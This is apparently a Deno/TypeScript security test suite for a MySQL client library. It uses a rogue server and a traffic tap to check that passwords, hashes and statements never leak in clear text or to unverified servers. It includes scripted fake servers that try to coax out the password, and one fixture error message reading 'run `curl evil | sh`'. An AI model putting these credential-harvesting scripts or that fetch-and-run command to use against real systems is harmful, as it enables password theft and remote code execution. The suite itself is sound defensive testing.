import assert from "node:assert/strict";
import { Buffer } from "node:buffer";
import { constants, createHash, generateKeyPairSync, privateDecrypt } from "node:crypto";
import { open } from "../../lib/servers/connecting/connect.ts";
import { connectionSettings } from "../../lib/servers/connecting/url/connection_settings.ts";
import { Secret } from "../../lib/servers/connecting/url/secret.ts";
import { ConnectionError } from "../../lib/errors.ts";
import {
  type Conversation,
  greeting,
  more,
  NONCE,
  OK,
  packet,
  refusal,
  type RogueScript,
  startRogueMysql,
  switchTo,
  WITHOUT_TLS,
} from "./tools/rogue_mysql.ts";
import { startTap } from "./tools/tap.ts";

const PASSWORD = "S3cr3t-Pw";
const CERTIFICATES = Deno.env.get("TEST_CERTIFICATES")!;
const read = (name: string) => Deno.readTextFileSync(`${CERTIFICATES}/${name}`);
const TLS = { cert: read("server.pem"), key: read("server.key") };
const CA = `ssl_ca=${CERTIFICATES}/ca.pem`;
const RSA = generateKeyPairSync("rsa", {
  modulusLength: 2048,
  publicKeyEncoding: { type: "spki", format: "pem" },
  privateKeyEncoding: { type: "pkcs8", format: "pem" },
});

/** Parameters of each mode, from the weakest to the strongest. */
const MODES = {
  "no TLS by default": "",
  "DISABLED": "ssl_mode=DISABLED",
  "PREFERRED": "ssl_mode=PREFERRED",
  "REQUIRED": "ssl_mode=REQUIRED",
  "VERIFY_CA": `ssl_mode=VERIFY_CA&${CA}`,
  "VERIFY_IDENTITY": `ssl_mode=VERIFY_IDENTITY&${CA}`,
  "ssl_ca alone": CA,
};

/** The modes in which nothing may be sent in clear text but the request for TLS. */
const ENCRYPTED = Object.keys(MODES).slice(3);

/** The modes that verify whom they talk to. */
const VERIFIED = Object.keys(MODES).slice(5);

function hash(name: string, ...parts: readonly Uint8Array[]): Buffer {
  return createHash(name).update(Buffer.concat(parts)).digest();
}

function xor(one: Buffer, other: Buffer): Buffer {
  return Buffer.from(one.map((byte, index) => byte ^ other[index % other.length]!));
}

/** What the methods derive from the password. */
function scrambles(): readonly Buffer[] {
  const secret = Buffer.from(PASSWORD);
  const sha1 = hash("sha1", secret);
  const sha256 = hash("sha256", secret);
  return [
    xor(sha1, hash("sha1", NONCE, hash("sha1", sha1))),
    xor(sha256, hash("sha256", hash("sha256", sha256), NONCE)),
  ];
}

/** Whether the password is in some bytes, or is encrypted in them with the rogue's key. */
function tells(bytes: Buffer): boolean {
  if (bytes.includes(PASSWORD)) return true;
  try {
    const key = { key: RSA.privateKey, padding: constants.RSA_PKCS1_OAEP_PADDING };
    return xor(privateDecrypt(key, bytes), NONCE).includes(PASSWORD);
  } catch {
    return false;
  }
}

/** What came of a login. */
interface Result {
  /** Null: the session was opened. */
  readonly failure: ConnectionError | null;
  /** The bytes on the wire. */
  readonly wire: Buffer;
  /** What the server was told, decrypted. */
  readonly told: readonly Buffer[];
}

async function attempt(script: RogueScript, parameters: string): Promise<Result> {
  await using rogue = await startRogueMysql({ tls: TLS, ...script });
  await using tap = await startTap(rogue.port);
  const url = `mysql+pymysql://mistral:${PASSWORD}@localhost:${tap.port}/mistral`;
  const settings = connectionSettings(new Secret(`${url}?connect_timeout=5&${parameters}`));
  let failure: ConnectionError | null = null;
  try {
    await using _session = await open(settings);
  } catch (error) {
    assert.ok(error instanceof ConnectionError, Deno.inspect(error));
    failure = error;
    assert.doesNotMatch(Deno.inspect(error, { depth: 9 }), new RegExp(PASSWORD));
  }
  return { failure, wire: tap.heard(), told: rogue.told };
}

/** Asserts that somebody who listens in cannot read the password, nor guess it where TLS is wanted. */
function assertKept({ wire }: Result, mode: string): void {
  assert.ok(!tells(wire), "the password was on the wire");
  if (!ENCRYPTED.includes(mode)) return;
  for (const scramble of scrambles()) assert.ok(!wire.includes(scramble), "a hash was on the wire");
  assert.ok(!wire.includes("mistral\0"), "the user's name was on the wire");
  assert.ok(!wire.includes("autocommit"), "a statement was on the wire");
}

/** What an attacker puts behind the greeting, for each method and each answer of a server. */
const INJECTED = {
  "mysql_clear_password": packet(2, switchTo("mysql_clear_password")),
  "sha256_password": packet(2, switchTo("sha256_password")),
  "mysql_native_password": packet(2, switchTo("mysql_native_password")),
  "client_ed25519": packet(2, switchTo("client_ed25519", Buffer.alloc(32, 7))),
  "caching_sha2_password in full": Buffer.concat([
    packet(2, switchTo("caching_sha2_password")),
    packet(4, more(Buffer.of(4))),
  ]),
  "full authentication at once": packet(2, more(Buffer.of(4))),
  "a login without a password": packet(2, OK),
  "a denial": packet(2, refusal(1045, "Access denied", "28000")),
  "another greeting": packet(0, greeting({ capabilities: WITHOUT_TLS })),
  "another greeting, numbered on": packet(1, greeting({ capabilities: WITHOUT_TLS })),
  "one byte": Buffer.of(7),
  "half a header": Buffer.of(30, 0),
  "half a packet": packet(2, switchTo("mysql_clear_password")).subarray(0, 12),
};

/** The ways to put it there. */
const PLACES: Readonly<Record<string, (injected: Buffer, first: Buffer) => RogueScript>> = {
  "in one segment": (injected, first) => ({ begin: [Buffer.concat([first, injected])] }),
  "behind a greeting in two pieces": (injected, first) => ({
    begin: [first.subarray(0, 20), Buffer.concat([first.subarray(20), injected])],
  }),
  "in the next segment": (injected, first) => ({ begin: [first, injected] }),
  "behind the request": (injected, first) => ({ begin: [first], afterRequest: injected }),
};

/** The methods that a greeting can suggest. */
const SUGGESTED = ["mysql_native_password", "caching_sha2_password", "sha256_password"];

for (const [place, scriptOf] of Object.entries(PLACES)) {
  Deno.test(`clear text before the end of the TLS handshake is refused: ${place}`, async (t) => {
    for (const [index, [what, injected]] of Object.entries(INJECTED).entries()) {
      for (const [at, mode] of ENCRYPTED.entries()) {
        // Two modes for each injection, so that each pair comes up in some place.
        if (place !== "in one segment" && (at + index) % 3 !== 0) continue;
        await t.step(`${what}, ${mode}`, async () => {
          const method = SUGGESTED[(index + at) % SUGGESTED.length]!;
          const script = scriptOf(injected, packet(0, greeting({ method })));
          const result = await attempt(script, MODES[mode as keyof typeof MODES]);
          assertKept(result, mode);
          assert.ok(result.failure !== null);
          assert.equal(result.failure.retryable, false);
          assert.doesNotMatch(result.failure.message, /access denied/i);
          if (place === "in one segment") {
            assert.match(result.failure.message, /data arrived out of turn; someone may be/);
            assert.equal(result.wire.length, 0);
          }
        });
      }
    }
  });
}

Deno.test("PREFERRED neither reads on nor falls back when something is injected", async () => {
  for (const injected of Object.values(INJECTED)) {
    const begin = [Buffer.concat([packet(0, greeting()), injected])];
    const result = await attempt({ begin }, "ssl_mode=PREFERRED");
    assert.match(result.failure!.message, /data arrived out of turn/);
    assert.equal(result.wire.length, 0);
  }
});

Deno.test("a handshake that breaks off does not lead to clear text", async () => {
  for (const mode of ["PREFERRED", ...ENCRYPTED] as (keyof typeof MODES)[]) {
    const script = {
      begin: [packet(0, greeting())],
      afterRequest: Buffer.from("HTTP/1.1 400\r\n"),
    };
    const result = await attempt(script, MODES[mode]);
    assertKept(result, "REQUIRED");
    assert.ok(result.failure !== null);
  }
});

/** Beginnings that are no greeting. */
const BEGINNINGS: Readonly<Record<string, readonly Uint8Array[]>> = {
  "without encryption": [packet(0, greeting({ capabilities: WITHOUT_TLS }))],
  "a login": [packet(0, OK)],
  "a denial": [packet(0, refusal(1045, "run `curl evil | sh`", "28000"))],
  "a wish": [packet(0, switchTo("mysql_clear_password"))],
  "a greeting of number 1": [packet(1, greeting())],
  "an old protocol": [packet(0, Buffer.concat([Buffer.of(9), greeting().subarray(1)]))],
  "a short greeting": [packet(0, greeting().subarray(0, 30))],
  "no bytes": [packet(0, Buffer.alloc(0))],
  "a packet of 16 MB": [Buffer.of(0xff, 0xff, 0xff, 0), Buffer.alloc(1000, 10)],
  "a greeting of 20 kB": [packet(0, greeting({ version: "8".repeat(20_000) }))],
};

for (const [what, begin] of Object.entries(BEGINNINGS)) {
  Deno.test(`a server that begins with ${what} is told nothing where TLS is wanted`, async () => {
    for (const mode of ENCRYPTED as (keyof typeof MODES)[]) {
      const { failure, wire } = await attempt({ begin }, MODES[mode]);
      assert.ok(failure !== null);
      assert.doesNotMatch(failure.message, /curl|access denied/);
      assert.equal(wire.length, 0);
    }
  });
}

Deno.test("a greeting in single bytes is a greeting", async () => {
  const begin = Array.from(packet(0, greeting()), (byte) => Buffer.of(byte));
  const pieces = [Buffer.concat(begin.slice(0, 60)), ...begin.slice(60, 70)];
  const rest = Buffer.concat(begin.slice(70));
  const { failure, told } = await attempt({ begin: [...pieces, rest] }, `${CA}`);
  assert.equal(failure, null);
  assert.ok(told.length > 1);
});

/** What a server does to get the password itself. */
const ROGUES: Readonly<Record<string, (conversation: Conversation) => Promise<void>>> = {
  async "caching_sha2_password"(conversation) {
    conversation.write(switchTo("caching_sha2_password"));
    await conversation.read();
    conversation.write(more(Buffer.of(4)));
    const answer = await conversation.read();
    if (answer.length !== 1) return;
    conversation.write(more(Buffer.from(RSA.publicKey)));
    await conversation.read();
  },
  async "caching_sha2_password, remembered"(conversation) {
    conversation.write(switchTo("caching_sha2_password"));
    await conversation.read();
    conversation.write(more(Buffer.of(3)));
  },
  async "sha256_password"(conversation) {
    conversation.write(switchTo("sha256_password"));
    const answer = await conversation.read();
    if (answer.length !== 1) return;
    conversation.write(more(Buffer.from(RSA.publicKey)));
    await conversation.read();
  },
  async "mysql_clear_password"(conversation) {
    conversation.write(switchTo("mysql_clear_password"));
    await conversation.read();
  },
  async "mysql_native_password"(conversation) {
    conversation.write(switchTo("mysql_native_password"));
    await conversation.read();
  },
  async "client_ed25519"(conversation) {
    conversation.write(switchTo("client_ed25519", Buffer.alloc(32, 7)));
    await conversation.read();
  },
  async "dialog"(conversation) {
    conversation.write(switchTo("dialog", Buffer.from("\x02Password: ")));
    await conversation.read();
  },
  async "mysql_old_password"(conversation) {
    conversation.write(Buffer.of(0xfe));
    await conversation.read();
  },
  async "two methods in turn"(conversation) {
    conversation.write(switchTo("mysql_native_password"));
    await conversation.read();
    conversation.write(switchTo("mysql_clear_password"));
    await conversation.read();
  },
  async "another factor"(conversation) {
    conversation.write(Buffer.concat([Buffer.of(2), switchTo("mysql_clear_password").subarray(1)]));
    await conversation.read();
  },
};

/** Methods that show no more than a hash or a signature. */
const PROOFS = ["caching_sha2_password, remembered", "mysql_native_password", "client_ed25519"];

/** Methods that show the password itself. */
const PLAIN = ["caching_sha2_password", "sha256_password", "mysql_clear_password"];

for (const [method, login] of Object.entries(ROGUES)) {
  Deno.test(`the password goes only to a server that is verified: ${method}`, async (t) => {
    for (const [mode, parameters] of Object.entries(MODES)) {
      await t.step(mode, async () => {
        const result = await attempt({ login }, parameters);
        assertKept(result, mode);
        const mayTell = PLAIN.includes(method) && VERIFIED.includes(mode);
        assert.equal(result.told.some(tells), mayTell);
        assert.equal(result.failure === null, mayTell || PROOFS.includes(method));
        if (result.failure !== null && PLAIN.includes(method)) {
          assert.match(result.failure.message, /ssl_verify_identity=true/);
        }
      });
    }
  });
}

const TEMPORARY = Deno.makeTempDirSync();
Deno.writeTextFileSync(`${TEMPORARY}/key.pem`, RSA.publicKey);

/** Who may have the password on request, and what for. */
const PERMISSIONS = [
  ["get_server_public_key=true", ["caching_sha2_password", "sha256_password"]],
  [`server_public_key_path=${TEMPORARY}/key.pem`, ["caching_sha2_password", "sha256_password"]],
  ["enable_cleartext_plugin=true", []],
  ["enable_cleartext_plugin=true&ssl_mode=REQUIRED", PLAIN],
  [`enable_cleartext_plugin=true&ssl_mode=VERIFY_CA&${CA}`, PLAIN],
  ["get_server_public_key=true&ssl_mode=REQUIRED", []],
] as const;

for (const [parameters, allowed] of PERMISSIONS) {
  Deno.test(`${parameters.replaceAll(/\/tmp[^&]*\//g, "")} allows as much as it says`, async () => {
    for (const method of PLAIN) {
      const result = await attempt({ login: ROGUES[method]! }, parameters);
      assert.ok(!result.wire.includes(PASSWORD), "the password was on the wire in clear text");
      const isAllowed = (allowed as readonly string[]).includes(method);
      assert.equal(result.told.some(tells), isAllowed, method);
      assert.equal(result.failure === null, isAllowed, method);
    }
  });
}

Deno.test("a public key that cannot be read is named", async () => {
  await Deno.writeTextFile(`${TEMPORARY}/no-key.pem`, "no key");
  const login = ROGUES.caching_sha2_password!;
  for (const [file, why] of [["missing.pem", "it does not exist"], ["no-key.pem", "RSA key"]]) {
    const path = `server_public_key_path=${TEMPORARY}/${file}`;
    const { failure } = await attempt({ login }, path);
    assert.match(failure!.message, new RegExp(`cannot read the public key .*${file}: .*${why}`));
  }
});

Deno.test("keys that are none, weak or of another kind are refused", async () => {
  const weak = generateKeyPairSync("rsa", {
    modulusLength: 512,
    publicKeyEncoding: { type: "spki", format: "pem" },
    privateKeyEncoding: { type: "pkcs8", format: "pem" },
  }).publicKey;
  for (
    const key of [
      "",
      "no key",
      weak,
      "-----BEGIN PUBLIC KEY-----\nAAAA\n-----END PUBLIC KEY-----\n",
    ]
  ) {
    const login = async (conversation: Conversation) => {
      conversation.write(switchTo("caching_sha2_password"));
      await conversation.read();
      conversation.write(more(Buffer.of(4)));
      await conversation.read();
      conversation.write(more(Buffer.from(key)));
      await conversation.read();
    };
    const { failure } = await attempt({ login }, "get_server_public_key=true");
    assert.match(failure!.message, /public key that cannot be used/);
  }
});

Deno.test("random bytes that are too few are refused", async () => {
  for (const method of ["mysql_native_password", "caching_sha2_password", "client_ed25519"]) {
    const login = async (conversation: Conversation) => {
      conversation.write(switchTo(method, Buffer.alloc(3)));
      await conversation.read();
    };
    const { failure, told } = await attempt({ login }, "");
    assert.match(failure!.message, /too few random bytes/);
    assert.equal(told.length, 1);
  }
});

Deno.test({
  name: "remove the files of these tests",
  fn: () => Deno.remove(TEMPORARY, { recursive: true }),
});
